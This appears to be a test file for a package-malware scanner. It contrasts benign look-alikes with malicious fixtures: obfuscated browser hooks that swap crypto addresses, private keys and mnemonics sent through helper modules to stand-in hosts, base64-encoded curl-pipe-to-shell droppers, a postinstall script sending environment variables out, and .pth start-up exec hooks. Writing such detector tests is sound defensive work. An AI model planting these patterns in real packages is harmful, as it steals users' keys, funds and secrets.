// Round s31b (issue 24), packages: three classes held-out set 32 let through or blocked wrongly (in-sample for set 32;
// every sample here is written from the class description, structurally different from the held-out ones).
// 1. Browser-side address swapping whose hooks no text form spells: the global object reached through a parameter or
//    `this`, the wallet provider handed to a helper, member names folded from decoded tables, reversed strings and
//    char codes (code/browser-hook-targets.ts, code/address-hijack.ts).
// 2. A key constructor handing the key to a function of ANOTHER module of the package (an imported function, a
//    namespace member, a method of an instance of an imported class) that sends it or queues it for a flush
//    (packages/key-handoff-send.ts, analyze-package.ts).
// 3. Test folders and placeholders: a `.pth` that Python never reads (in a subfolder), findings in test-folder files
//    nothing in the package runs or imports, and chat webhooks written as placeholders (packages/test-fixtures.ts,
//    packages/code-findings.ts).
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { addressHijackFinding } from './code/address-hijack.js';
import { browserHookTargets } from './code/browser-hook-targets.js';
import { analyzePackage } from './packages/analyze-package.js';
import { isPlaceholderWebhook } from './packages/code-findings.js';

const titled = (findings: AgentFinding[]) => findings.map((f) => `${f.severity} ${f.title}`);
async function pkg(files: Record<string, string>) {
  const r: AgentResult = await analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
  return { ...r, titles: titled(r.findings) };
}
const manifest = (name: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version: '1.4.2', main: 'index.js', ...extra });
const HIJACK = 'CRIT Intercepts browser requests or wallet calls and rewrites crypto addresses';
const KEY_SEND = 'CRIT A key constructor hands the private key to a function that sends it over the network';
const b64 = (s: string) => Buffer.from(s).toString('base64');
const hex = (s: string) => Buffer.from(s).toString('hex');

// Addresses of the shape the swaps use (made up, checksums ignored).
const ETH = ['0x5c1d3a7be0f942c86e3d1f0a9b27c4e8d6f1a3b2', '0x7e2f4b8cd1a053d97f4e2a1bc38d5f9e0a2b4c63', '0x913a5c9de2b164ea805f3b2cd49e6a0f1b3c5d74'];
const BTC = ['bc1q8c6fshw2dlwun7ekn9qwf37cu2rn755upcp6el', '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'];
const SOL = ['Hx9qYtWz3k8VbN4mLcR7pDfG2sJ6aE5uT1oK9iQ3rBv', 'Ft2Wq8ZcN5xK1mB7vL3pR9dG4hS6jE2aY8uT5oI1kQw'];
const TOKENS = { USDC: '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48', USDT: '0xdac17f958d2ee523a2206206994597c13d831ec7', DAI: '0x6b175474e89094c44da98b954eedeac495271d0f', WETH: '0xc02aaa39b223fe8d0a4e5c4f27ead9083c756cc2' };

describe('class 1: request and wallet hooks behind folded names — benign look-alikes first', () => {
  it('a minified fetch polyfill installed through a parameter, beside an anchored address validator, is not a hijack', async () => {
    const code = "!function(r){var n='fe'+'tch';r[n]||(r[n]=function(u,o){return new Promise(function(s,j){var x=new r.XMLHttpRequest;x.open((o&&o.method)||'GET',u);x.onload=function(){s({ok:x.status<300,text:function(){return Promise.resolve(x.responseText)}})};x.onerror=j;x.send(o&&o.body)})})}(typeof self<'u'?self:this);\nexport const isAddress=(a)=>/^0x[a-fA-F0-9]{40}$/.test(a);\n";
    expect(browserHookTargets(code, false)?.hooks.map((h) => h.target)).toEqual(['fetch']);
    expect(addressHijackFinding('dist/polyfill.min.js', code)).toBeNull();
    const r = await pkg({ 'package.json': manifest('tiny-fetch-shim', { main: 'dist/polyfill.min.js' }), 'dist/polyfill.min.js': code });
    expect(r.titles).not.toContain(HIJACK);
    expect(r.verdict).toBe('ALLOW');
  });

  it('a wallet analytics middleware wrapping the provider handed to a helper, with a token list and a validator, is not a hijack', async () => {
    const code = [
      `const TOKENS = ${JSON.stringify(TOKENS)};`,
      'const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);',
      "const short = (a) => a.replace(/^0x/, '').slice(0, 6);",
      'function instrument(provider, track) {',
      '  const original = provider.request;',
      '  provider.request = function (args) {',
      "    const to = args && args.params && args.params[0] && args.params[0].to;",
      "    track(args.method, to && isAddress(to) ? short(to) : null, Object.values(TOKENS).includes(to));",
      '    return original.apply(provider, arguments);',
      '  };',
      '}',
      "export function install(track) { if (typeof window !== 'undefined' && window.ethereum) instrument(window.ethereum, track); }",
    ].join('\n');
    expect(browserHookTargets(code, false)?.hooks.map((h) => h.target)).toEqual(['ethereum.request']);
    expect(addressHijackFinding('src/middleware.js', code)).toBeNull();
    const r = await pkg({ 'package.json': manifest('wallet-insights', { main: 'src/middleware.js' }), 'src/middleware.js': code });
    expect(r.titles).not.toContain(HIJACK);
    expect(r.verdict).not.toBe('BLOCK');
  });

  it('a wallet SDK that injects its own provider object, with mnemonic word suggestions by edit distance and a checksum pattern, is not a hijack', () => {
    const code = [
      `const CONTRACTS = ${JSON.stringify(Object.values(TOKENS))};`,
      "const WORDS = ['abandon', 'ability', 'able', 'about', 'above', 'absent'];",
      'function lev(a, b) { const d = []; for (let i = 0; i <= a.length; i++) d[i] = [i]; for (let j = 0; j <= b.length; j++) d[0][j] = j;',
      '  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++) d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));',
      '  return d[a.length][b.length]; }',
      'export const suggestWord = (w) => WORDS.slice().sort((x, y) => lev(w, x) - lev(w, y))[0];',
      'export const findAddresses = (text) => text.match(/0x[a-fA-F0-9]{40}/g) || [];',
      'class Provider { request(args) { return this.transport.send(args); } }',
      "(function (root) { if (!root.ethereum) root.ethereum = new Provider(); root.ethereum.contracts = CONTRACTS; })(typeof window !== 'undefined' ? window : globalThis);",
    ].join('\n');
    expect(addressHijackFinding('dist/inpage.js', code)).toBeNull();
  });

  it('an address linkifier with a fuzzy "did you mean" search and a label book, that replaces no request function, is not a hijack', async () => {
    const code = [
      `const BOOK = ${JSON.stringify(Object.fromEntries(ETH.map((a, i) => [a, `Exchange ${i}`])))};`,
      'function dist(a, b) { const d = []; for (let i = 0; i <= a.length; i++) d[i] = [i]; for (let j = 0; j <= b.length; j++) d[0][j] = j;',
      '  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++) d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));',
      '  return d[a.length][b.length]; }',
      "export function suggest(q) { return Object.keys(BOOK).sort((x, y) => dist(q, x) - dist(q, y))[0]; }",
      "export function linkify(html) { return html.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (m) => `<a href=\"/address/${m}\">${BOOK[m] || m}</a>`); }",
      "const w = typeof window !== 'undefined' ? window : globalThis; const key = ['x', 'e', 'p', 'l', 'o', 'r', 'e', 'r'].join(''); w[key] = { suggest, linkify };",
    ].join('\n');
    expect(addressHijackFinding('dist/explorer.js', code)).toBeNull();
  });
});

describe('class 1: request and wallet hooks behind folded names — malicious variants', () => {
  it('reversed names, a global alias picked by typeof, an XMLHttpRequest prototype destructured, Response.json replaced, a type-matched swap with /g patterns', async () => {
    const rev = (s: string) => `'${[...s].reverse().join('')}'.split('').reverse().join('')`;
    const code = [
      "import { format } from './format.js';",
      'export { format };',
      "const $ = typeof window !== 'undefined' ? window : typeof self !== 'undefined' ? self : undefined;",
      `const POOL = { e: ${JSON.stringify(ETH)}, b: ${JSON.stringify(BTC)} };`,
      'const pick = (list, seed) => list[seed.charCodeAt(seed.length - 1) % list.length];',
      'const swap = (t) => String(t).replace(/0x[a-fA-F0-9]{40}/g, (m) => pick(POOL.e, m)).replace(/bc1[a-z0-9]{38,59}/g, (m) => pick(POOL.b, m));',
      'if ($) {',
      `  const R = $[${rev('Response')}];`,
      `  const { prototype: rp } = R;`,
      `  const readJson = rp[${rev('json')}];`,
      `  rp[${rev('json')}] = function () { return readJson.call(this).then((o) => JSON.parse(swap(JSON.stringify(o)))); };`,
      `  const { prototype: xp } = $[${rev('XMLHttpRequest')}];`,
      `  const send = xp[${rev('send')}];`,
      `  xp[${rev('send')}] = function (body) { return send.call(this, typeof body === 'string' ? swap(body) : body); };`,
      '}',
    ].join('\n');
    const hooks = browserHookTargets(code, false)?.hooks.map((h) => h.target);
    expect(hooks).toEqual(['Response.prototype.json', 'XMLHttpRequest.prototype.send']);
    expect(addressHijackFinding('index.mjs', code)?.title).toBe(HIJACK.replace(/^CRIT /, ''));
    const r = await pkg({ 'package.json': manifest('fmt-kit', { main: 'index.mjs', type: 'module' }), 'index.mjs': code, 'format.js': 'export const format = (s) => String(s).trim();\n' });
    expect(r.titles).toContain(HIJACK);
    expect(r.verdict).toBe('BLOCK');
  });

  it('a hex table decoded by Buffer in .map, `this` handed to a .call IIFE, a helper given the provider on a timer, the recipient overwritten', async () => {
    const table = ['solana', 'signAndSendTransaction', 'phantom', 'ethereum', 'request'].map((s) => `'${hex(s)}'`).join(',');
    const code = [
      '(function () {',
      '  var G = this;',
      `  var N = [${table}].map(function (h) { return Buffer.from(h, 'hex').toString(); });`,
      `  var VAULT = ['${SOL[0]}'];`,
      '  function patch(w) {',
      '    var p = w && w[N[0]];',
      '    if (!p || p.__p) return; p.__p = 1;',
      '    var orig = p[N[1]];',
      '    p[N[1]] = async function (tx) { try { tx.toPubkey = VAULT[0]; } catch (e) {} return orig.call(this, tx); };',
      '  }',
      '  var tries = 0, t = setInterval(function () { patch(G); if (++tries > 40) clearInterval(t); }, 750);',
      '}).call(this);',
    ].join('\n');
    expect(browserHookTargets(code, false)?.hooks.map((h) => h.target)).toEqual(['solana.signAndSendTransaction']);
    expect(addressHijackFinding('lib/compat.js', code)?.severity).toBe('CRIT');
    const r = await pkg({ 'package.json': manifest('sol-compat'), 'index.js': "module.exports = require('./lib/compat.js');\n", 'lib/compat.js': code });
    expect(r.titles).toContain(HIJACK);
    expect(r.verdict).toBe('BLOCK');
  });

  it('base64 names decoded by atob in place, fetch replaced through Object.defineProperty, Levenshtein-nearest swap of hidden addresses (TypeScript)', () => {
    const code = [
      'declare const window: any;',
      `const A: string[] = [${[...ETH, ...SOL].map((a) => `'${b64(a)}'`).join(', ')}].map((s: string) => atob(s));`,
      'function lev(a: string, b: string): number { const m: number[][] = []; for (let i = 0; i <= a.length; i++) { m[i] = [i]; } for (let j = 0; j <= b.length; j++) m[0]![j] = j;',
      '  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++) m[i]![j] = Math.min(m[i - 1]![j]! + 1, m[i]![j - 1]! + 1, m[i - 1]![j - 1]! + (a[i - 1] === b[j - 1] ? 0 : 1));',
      '  return m[a.length]![b.length]!; }',
      'const near = (x: string) => A.reduce((best, c) => (lev(x, c) < lev(x, best) ? c : best), A[0]!);',
      `const host: any = typeof window === 'object' ? window : undefined;`,
      `const orig = host && host[atob('${b64('fetch')}')];`,
      `if (orig) Object.defineProperty(host, atob('${b64('fetch')}'), { value: async (...a: unknown[]) => { const r = await orig(...a); const t = await r.clone().text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, near), r); } });`,
    ].join('\n');
    expect(browserHookTargets(code, true)?.hooks.map((h) => h.target)).toEqual(['fetch']);
    expect(addressHijackFinding('src/net.ts', code)?.severity).toBe('CRIT');
  });
});

describe('class 2: a key constructor handing the key to another module of the package — benign look-alikes first', () => {
  it('a keypair validated by an imported helper whose module also calls its RPC elsewhere is not a key send', async () => {
    const r = await pkg({
      'package.json': manifest('sol-mini'),
      'index.js': "const { Keypair } = require('./lib/keypair');\nmodule.exports = { Keypair };\n",
      'lib/keypair.js': [
        "const { checkSecret } = require('./check');",
        'class Keypair {',
        '  constructor(pair) { this.pair = pair; }',
        '  static fromSecretKey(secretKey) { checkSecret(secretKey); return new Keypair({ secretKey, publicKey: secretKey.slice(32) }); }',
        '}',
        'module.exports = { Keypair };',
      ].join('\n'),
      'lib/check.js': [
        "const https = require('https');",
        "function checkSecret(secretKey) { if (secretKey.length !== 64) throw new Error('bad secret key size'); return true; }",
        "function getSlot(url) { return new Promise((ok) => https.request(url, { method: 'POST' }, ok).end(JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getSlot' }))); }",
        'module.exports = { checkSecret, getSlot };',
      ].join('\n'),
    });
    expect(r.titles).not.toContain(KEY_SEND);
    expect(r.verdict).toBe('ALLOW');
  });

  it('telemetry of key creation that sends the key size and the public key only, through an imported tracker, is not a key send', async () => {
    const r = await pkg({
      'package.json': manifest('hd-lite'),
      'index.js': [
        "import * as metrics from './telemetry.js';",
        'export class Wallet {',
        '  static fromSeed(seed) {',
        "    metrics.track('wallet.fromSeed', seed.length);",
        '    const w = new Wallet(); w.publicKey = derivePublic(seed);',
        "    metrics.track('wallet.publicKey', w.publicKey.toString());",
        '    return w;',
        '  }',
        '}',
      ].join('\n'),
      'telemetry.js': [
        'const events = [];',
        'export function track(name, value) { events.push({ name, value }); }',
        "setInterval(() => { if (events.length) fetch(process.env.HD_TELEMETRY_URL || 'https://telemetry.hd-lite.dev/v1', { method: 'POST', body: JSON.stringify(events.splice(0)) }); }, 60000);",
      ].join('\n'),
    });
    expect(r.titles).not.toContain(KEY_SEND);
  });

  it('a key fingerprinted by a helper re-exported through a barrel that also re-exports the RPC client is not a key send', async () => {
    const r = await pkg({
      'package.json': manifest('ts-signer', { main: 'src/index.ts' }),
      'src/index.ts': "export { Signer } from './signer.js';\n",
      'src/signer.ts': "import { fingerprint } from './util/index.js';\nexport class Signer {\n  readonly id: string;\n  constructor(secretKey: Uint8Array) { this.id = fingerprint(secretKey); }\n}\n",
      'src/util/index.ts': "export * from './hash.js';\nexport * from './rpc.js';\n",
      'src/util/hash.ts': "import { createHash } from 'node:crypto';\nexport function fingerprint(key: Uint8Array): string { return createHash('sha256').update(key).digest('hex').slice(0, 16); }\n",
      'src/util/rpc.ts': "export async function rpc(url: string, method: string, params: unknown[]) { const r = await fetch(url, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }); return r.json(); }\n",
    });
    expect(r.titles).not.toContain(KEY_SEND);
    expect(r.verdict).toBe('ALLOW');
  });

  it('a keystore instance of an imported class that encrypts the key to disk is not a key send', async () => {
    const r = await pkg({
      'package.json': manifest('eth-keystore-lite'),
      'index.js': [
        "const Keystore = require('./keystore');",
        'class Wallet {',
        '  constructor(privateKey) { this.store = new Keystore(); this.store.save(privateKey); }',
        '}',
        'module.exports = { Wallet };',
      ].join('\n'),
      'keystore.js': [
        "const fs = require('fs');",
        "const crypto = require('crypto');",
        'module.exports = class Keystore {',
        "  save(key) { const iv = crypto.randomBytes(12); const c = crypto.createCipheriv('aes-256-gcm', this.kek(), iv); fs.writeFileSync(this.path(), Buffer.concat([iv, c.update(key), c.final()])); }",
        "  kek() { return crypto.scryptSync(process.env.KEYSTORE_PASSWORD || '', 'salt', 32); }",
        "  path() { return require('path').join(require('os').homedir(), '.keystore'); }",
        '};',
      ].join('\n'),
    });
    expect(r.titles).not.toContain(KEY_SEND);
    expect(r.verdict).toBe('ALLOW');
  });
});

describe('class 2: a key constructor handing the key to another module of the package — malicious variants', () => {
  it('TypeScript ESM: a Wallet constructor records the private key through a namespace import whose interval flush puts it in a header', async () => {
    const r = await pkg({
      'package.json': manifest('evm-signer-kit', { main: 'dist/index.js', types: 'src/wallet.ts' }),
      'src/wallet.ts': [
        "import * as diag from './internal/diag.js';",
        "import { computeAddress } from './internal/address.js';",
        'export class Wallet {',
        '  readonly address: string;',
        '  constructor(private readonly privateKey: string) {',
        '    this.address = computeAddress(privateKey);',
        "    diag.record('init', privateKey);",
        '  }',
        '}',
      ].join('\n'),
      'src/internal/address.ts': "export function computeAddress(k: string): string { return '0x' + k.slice(-40); }\n",
      'src/internal/diag.ts': [
        'const lines: string[] = [];',
        "export function record(kind: string, detail: string): void { lines.push(`${kind}:${detail}`); }",
        "setInterval(() => { if (lines.length === 0) return; const batch = lines.splice(0); void fetch('https://edge-diag.example/v1/ping', { headers: { 'x-edge-trace': batch.join(';') } }).catch(() => undefined); }, 4000);",
      ].join('\n'),
    });
    expect(r.titles).toContain(KEY_SEND);
    expect(r.findings.find((f) => f.title.startsWith('A key constructor'))?.file).toBe('src/wallet.ts');
    expect(r.verdict).toBe('BLOCK');
  });

  it('CommonJS: fromMnemonic hands the phrase to a method of an instance of an imported class, kept in a field and sent by a later flush', async () => {
    const r = await pkg({
      'package.json': manifest('bip-accounts', { dependencies: { axios: '^1.7.0' } }),
      'index.js': "module.exports = require('./lib/account');\n",
      'lib/account.js': [
        "const Session = require('./session');",
        'class Account {',
        '  constructor(words) { this._session = new Session(); this.words = words; }',
        '  static fromMnemonic(mnemonic) {',
        '    const a = new Account(mnemonic.split(" ").length);',
        '    a._session = new Session();',
        '    return a;',
        '  }',
        '  restoreFromMnemonic(mnemonic) { this._session.note(mnemonic.trim()); return this; }',
        '}',
        'module.exports = Account;',
      ].join('\n'),
      'lib/session.js': [
        "const axios = require('axios');",
        'module.exports = class Session {',
        '  constructor() { this.pending = []; this.timer = null; }',
        '  note(value) { this.pending.push(String(value)); if (!this.timer) this.timer = setTimeout(() => this.flush(), 1500); }',
        '  flush() {',
        '    this.timer = null;',
        '    for (const item of this.pending.splice(0)) {',
        "      axios.get('https://rpc-cache.example/warm', { headers: { 'x-cache-key': Buffer.from(item).toString('hex') } }).catch(() => {});",
        '    }',
        '  }',
        '};',
      ].join('\n'),
    });
    expect(r.titles).toContain(KEY_SEND);
    expect(r.verdict).toBe('BLOCK');
  });

  it('TypeScript: a class made in place from a barrel re-export (`new Reporter().track(secretKey)`) that beacons its argument', async () => {
    const r = await pkg({
      'package.json': manifest('ts-keys', { main: 'src/index.ts' }),
      'src/index.ts': "export { Keys } from './keys.js';\n",
      'src/keys.ts': "import { Reporter } from './util/index.js';\nexport class Keys {\n  static fromSecretKey(secretKey: Uint8Array): Keys {\n    new Reporter().track(Buffer.from(secretKey).toString('base64'));\n    return new Keys();\n  }\n}\n",
      'src/util/index.ts': "export * from './reporter.js';\nexport * from './format.js';\n",
      'src/util/format.ts': 'export const hex = (b: Uint8Array): string => Buffer.from(b).toString("hex");\n',
      'src/util/reporter.ts': "export class Reporter {\n  track(detail: string): void {\n    globalThis.navigator?.sendBeacon?.('https://beacon.example/k', detail);\n  }\n}\n",
    });
    expect(r.titles).toContain(KEY_SEND);
  });

  it('a default-exported reporter function of another module that sends its argument itself', async () => {
    const r = await pkg({
      'package.json': manifest('seed-tools'),
      'index.js': [
        "const report = require('./report');",
        'function deriveSeed(seedPhrase) {',
        '  report(Buffer.from(seedPhrase).toString("base64"));',
        '  return seedPhrase.split(" ").map((w) => w.length);',
        '}',
        'module.exports = { deriveSeed };',
      ].join('\n'),
      'report.js': "const https = require('https');\nmodule.exports = function (v) { https.get({ host: 'stats.example', path: '/s', headers: { 'x-id': v } }).on('error', () => {}); };\n",
    });
    expect(r.titles).toContain(KEY_SEND);
  });
});

describe('class 3: test folders, .pth placement and placeholder webhooks — benign look-alikes first', () => {
  it('a secret scanner whose test specimens (a .pth, an exec of base64, a webhook) nothing in the package runs stays ALLOW', async () => {
    const r = await pkg({
      'pyproject.toml': '[project]\nname = "spec-sniff"\nversion = "2.0.1"\n[project.scripts]\nspec-sniff = "spec_sniff.cli:main"\n',
      'spec_sniff/__init__.py': '__version__ = "2.0.1"\n',
      'spec_sniff/cli.py': 'import sys\nfrom .rules import match\n\ndef main():\n    for p in sys.argv[1:]:\n        print(p, match(open(p, encoding="utf-8", errors="ignore").read()))\n',
      'spec_sniff/rules.py': 'import re\nRULES = {"pth-exec": re.compile(r"^import .*exec\\(", re.M), "discord": re.compile(r"discord(app)?\\.com/api/webhooks/\\d+/")}\n\ndef match(text):\n    return [k for k, r in RULES.items() if r.search(text)]\n',
      'test/specimens/startup_hook.pth': "import base64; exec(base64.b64decode('cHJpbnQoJ3NwZWNpbWVuJyk='))\n",
      'test/specimens/dropper.py': "import base64, subprocess\nsubprocess.Popen(base64.b64decode('Y3VybCBodHRwczovL2Jhc2UuZXhhbXBsZS94IHwgc2g=').decode(), shell=True)\nexec(base64.b64decode('cHJpbnQoJ3NwZWNpbWVuJyk='))\n",
      'test/specimens/stealer_cfg.py': 'HOOK = "https://discord.com/api/webhooks/1187262520000000000/kT3xQz9vRmW2bLp7nY4cF8dJ1sH6gA0eU5iO"\n',
      'test/test_match.py': 'from pathlib import Path\nfrom spec_sniff.rules import match\n\nS = Path(__file__).parent / "specimens"\n\ndef test_all():\n    for p in S.iterdir():\n        assert match(p.read_text())\n',
    });
    expect(r.findings.filter((f) => f.file?.startsWith('test/') && f.severity !== 'LOW')).toEqual([]);
    expect(r.verdict).toBe('ALLOW');
  });

  it('a wheel carrying a .pth inside its package directory (never read at start) has no start-up finding above LOW', async () => {
    const r = await pkg({
      'envkit-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: envkit\nVersion: 1.0\n',
      'envkit-1.0.dist-info/RECORD': '',
      'envkit/__init__.py': 'from pathlib import Path\nTEMPLATE = Path(__file__).parent / "templates" / "envkit.pth"\n',
      'envkit/templates/envkit.pth': 'import os; os.environ.setdefault("ENVKIT_HOME", os.path.expanduser("~/.envkit")); exec(open(os.path.expanduser("~/.envkit/boot.py")).read())\n',
    });
    expect(r.findings.filter((f) => /\.pth file/.test(f.title) && f.severity !== 'LOW')).toEqual([]);
    expect(r.titles).toContain('LOW A .pth file sits in a subfolder, where Python never reads it at start');
    expect(r.verdict).toBe('ALLOW');
  });

  it('a notifier whose code and config template hold placeholder webhooks reports no webhook', async () => {
    expect(isPlaceholderWebhook('https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX')).toBe(true);
    expect(isPlaceholderWebhook('https://discord.com/api/webhooks/000000000000000000/YOUR_WEBHOOK_TOKEN')).toBe(true);
    expect(isPlaceholderWebhook('https://api.telegram.org/bot0000000000:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX')).toBe(true);
    expect(isPlaceholderWebhook('https://hooks.slack.com/services/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')).toBe(false);
    const r = await pkg({
      'package.json': manifest('deploy-notify', { bin: { 'deploy-notify': 'cli.js' } }),
      'index.js': [
        "const EXAMPLE = 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX';",
        "module.exports = async function notify(text, url = process.env.SLACK_WEBHOOK_URL) {",
        "  if (!url || url === EXAMPLE) throw new Error('set SLACK_WEBHOOK_URL (for example ' + EXAMPLE + ')');",
        "  await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text }) });",
        '};',
      ].join('\n'),
      'cli.js': "#!/usr/bin/env node\nrequire('./index.js')(process.argv.slice(2).join(' '));\n",
      'config.template.js': "module.exports = { discord: 'https://discord.com/api/webhooks/000000000000000000/XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX' };\n",
    });
    expect(r.titles.filter((t) => t.includes('chat-service webhook'))).toEqual([]);
    expect(r.verdict).toBe('ALLOW');
  });
});

describe('class 3: test folders, .pth placement and placeholder webhooks — what keeps its severity', () => {
  it('a test-folder file the entry point requires keeps its severity', async () => {
    const r = await pkg({
      'package.json': manifest('quick-env'),
      'index.js': "require('./test/helpers/bootstrap');\nmodule.exports = (k) => process.env[k];\n",
      'test/helpers/bootstrap.js': "const { execSync } = require('child_process');\neval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHBzOi8vc3RhZ2UuZXhhbXBsZS9zIHwgc2gnKQ==', 'base64').toString());\nvoid execSync;\n",
    });
    expect(r.findings.some((f) => f.file === 'test/helpers/bootstrap.js' && (f.severity === 'HIGH' || f.severity === 'CRIT'))).toBe(true);
    expect(r.verdict).not.toBe('ALLOW');
  });

  it('a fixture a postinstall script runs keeps its severity', async () => {
    const r = await pkg({
      'package.json': manifest('fixture-runner', { scripts: { postinstall: 'node test/fixtures/prepare.js', test: 'node --test' } }),
      'index.js': 'module.exports = 1;\n',
      'test/fixtures/prepare.js': "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collect.example', method: 'POST', path: '/e' });\nreq.end(data);\n",
    });
    expect(r.findings.some((f) => f.file === 'test/fixtures/prepare.js' && (f.severity === 'HIGH' || f.severity === 'CRIT'))).toBe(true);
    expect(r.verdict).toBe('BLOCK');
  });

  it('a fixture the package code imports by its dotted package path keeps its severity (Python)', async () => {
    const r = await pkg({
      'setup.py': "from setuptools import setup, find_packages\nsetup(name='tidy-logs', version='0.3.0', packages=find_packages())\n",
      'tidy_logs/__init__.py': "import importlib\nfor name in ('a', 'b'):\n    try:\n        importlib.import_module('tests.fixtures.' + name)\n    except ImportError:\n        pass\n",
      'tests/__init__.py': '',
      'tests/fixtures/__init__.py': '',
      'tests/fixtures/a.py': "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9zdGFnZS5leGFtcGxlL2IgfCBzaCcp'))\n",
    });
    expect(r.findings.some((f) => f.file === 'tests/fixtures/a.py' && (f.severity === 'HIGH' || f.severity === 'CRIT'))).toBe(true);
  });

  it('a .pth at the wheel root, under .data/purelib, or named by setup.py data_files keeps its severity', async () => {
    const pth = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";
    const wheel = (path: string) => ({ 'hookpkg-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: hookpkg\nVersion: 1.0\n', 'hookpkg-1.0.dist-info/RECORD': '', 'hookpkg/__init__.py': '', [path]: pth });
    for (const files of [wheel('hookpkg-init.pth'), wheel('hookpkg-1.0.data/purelib/hookpkg-init.pth')]) {
      const r = await pkg(files);
      expect(r.titles).toContain('HIGH A .pth file runs decoded or external code every time Python starts');
    }
    const sdist = await pkg({
      'setup.py': "from setuptools import setup\nsetup(name='hookpkg', version='1.0', packages=['hookpkg'], data_files=[('', ['extras/hookpkg-init.pth'])])\n",
      'PKG-INFO': 'Metadata-Version: 2.1\nName: hookpkg\nVersion: 1.0\n',
      'hookpkg/__init__.py': '',
      'extras/hookpkg-init.pth': pth,
    });
    expect(sdist.titles).toContain('HIGH A .pth file runs decoded or external code every time Python starts');
  });

  it('a real-looking webhook in package code is still reported', async () => {
    const r = await pkg({
      'package.json': manifest('build-stats'),
      'index.js': "const os = require('os');\nfetch('https://hooks.slack.com/services/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', { method: 'POST', body: JSON.stringify({ text: os.hostname() }) });\n",
    });
    expect(r.titles.some((t) => t.includes('chat-service webhook') && !t.startsWith('LOW'))).toBe(true);
  });
});
